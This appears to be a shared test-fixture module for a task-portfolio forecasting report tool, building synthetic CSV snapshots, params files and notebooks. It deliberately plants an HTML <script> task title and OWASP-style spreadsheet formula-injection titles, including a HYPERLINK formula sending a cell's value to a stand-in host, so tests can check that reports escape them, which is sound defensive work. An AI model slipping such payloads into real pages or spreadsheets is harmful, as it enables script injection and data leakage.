"""Shared by the report tests: a small portfolio with a hostile task title, params files, tiny notebooks."""

from __future__ import annotations

import json
import time
from pathlib import Path

import nbformat
import pandas as pd
import yaml
from nbformat.v4 import new_code_cell, new_notebook

from forecast import sample
from forecast.data import schema

# A task title that would run if a report pasted data into the page as HTML.
HOSTILE_TITLE = '<script>document.documentElement.setAttribute("data-pwned", "yes")</script> Fix & "quote"'
HOSTILE_TASK = "HOSTILE-1"
# Titles a spreadsheet would run as formulas (OWASP's CSV injection list), given to open tasks due by 31 Dec.
FORMULA_TITLES = ('=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(1,2)")


# The agencies the example scenarios (params/scenarios/*.yaml) name: a portfolio folded into them runs those scenarios
EXAMPLE_AGENCIES = (
    "Government Office",
    "Ministry of Finance",
    "Ministry of Home Affairs",
    "Ministry of Science and Technology",
)


def fold_agencies(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with its agencies folded into :data:`EXAMPLE_AGENCIES` (the i-th agency in sorted order becomes
    the (i mod 4)-th): the same tasks, and a report of four agency pages at most, where a page per agency costs a
    kernel execution and a rendering."""
    agencies = sorted(frame["agency"].unique())
    names = EXAMPLE_AGENCIES
    return frame.assign(agency=frame["agency"].map({a: names[i % len(names)] for i, a in enumerate(agencies)}))


def write_portfolio(folder: Path) -> Path:
    """A 200-task synthetic portfolio (weekly, Sep - 4 Dec 2025) as CSV exports, its 34 agencies folded into the
    four the example scenarios name (:func:`fold_agencies`); the longest overdue task has a title holding a
    ``<script>`` element, and four tasks due by 31 Dec have titles a spreadsheet would run as formulas
    (:data:`FORMULA_TITLES`)."""
    frame = fold_agencies(sample.generate(tasks=200, seed=3, start="2025-09-04", until="2025-12-04"))
    last = frame["snapshot_date"].max()
    overdue = frame.loc[(frame["snapshot_date"] == last) & (frame["status"] == schema.OVERDUE)]
    victim = overdue.sort_values("deadline")["task_id"].iloc[0]  # the longest overdue: listed in every report
    frame["task_id"] = frame["task_id"].astype(str).where(frame["task_id"] != victim, HOSTILE_TASK)
    frame["title"] = frame["title"].astype(str).where(frame["task_id"] != HOSTILE_TASK, HOSTILE_TITLE)
    due = (
        frame.loc[
            (frame["snapshot_date"] == last)
            & (frame["status"] == schema.IN_PROGRESS)
            & (frame["deadline"] <= "2025-12-31")
        ]
        .sort_values("task_id")["task_id"]
        .head(len(FORMULA_TITLES))
    )
    for task, title in zip(due, FORMULA_TITLES, strict=True):
        frame.loc[frame["task_id"] == task, "title"] = title
    folder.mkdir(parents=True, exist_ok=True)
    for when, snap in frame.groupby("snapshot_date"):
        snap.drop(columns=["snapshot_date"]).to_csv(
            folder / f"snapshot_{when:%Y-%m-%d}.csv", index=False, date_format="%Y-%m-%d"
        )
    return folder


def write_params(path: Path, snapshots: Path, **overrides: object) -> Path:
    """A params file for ``snapshots`` as of 4 Dec 2025, small enough for tests: one page at a time (``jobs: 1``, one
    kernel to start) unless the test gives ``jobs``."""
    values = {
        "scenario": "test",
        "snapshots": str(snapshots),
        "as_of": "2025-12-04",
        "deadline": "2025-12-31",
        "sims": 200,
        "seed": 1,
        "jobs": 1,
        **overrides,
    }
    path.write_text(yaml.safe_dump(values), encoding="utf-8")
    return path


def write_notebook(path: Path, *cells: str) -> Path:
    """A notebook of code ``cells`` for the kit's kernel, with an (empty-valued) ``parameters`` cell first."""
    params = new_code_cell('scenario = "default"  # run name')
    params.metadata["tags"] = ["parameters"]
    nb = new_notebook(
        cells=[params, *(new_code_cell(c) for c in cells)],
        metadata={"kernelspec": {"name": "forecast", "display_name": "forecast", "language": "python"}},
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


def run_folders(out: Path) -> list[Path]:
    """The run folders a reader can see (hidden temporaries excluded), oldest first."""
    return sorted(p for p in out.iterdir() if p.is_dir() and not p.name.startswith("."))


def record(folder: Path) -> dict:
    return json.loads((folder / "run.json").read_text(encoding="utf-8"))


def snapshot_tree(folder: Path) -> dict[str, tuple[int, bytes]]:
    """Every file under ``folder`` with its modification time (ns) and bytes: to prove nothing changed."""
    return {
        str(p.relative_to(folder)): (p.stat().st_mtime_ns, p.read_bytes())
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def wait_for(predicate, timeout: float = 60.0, what: str = "condition") -> None:
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(0.1)
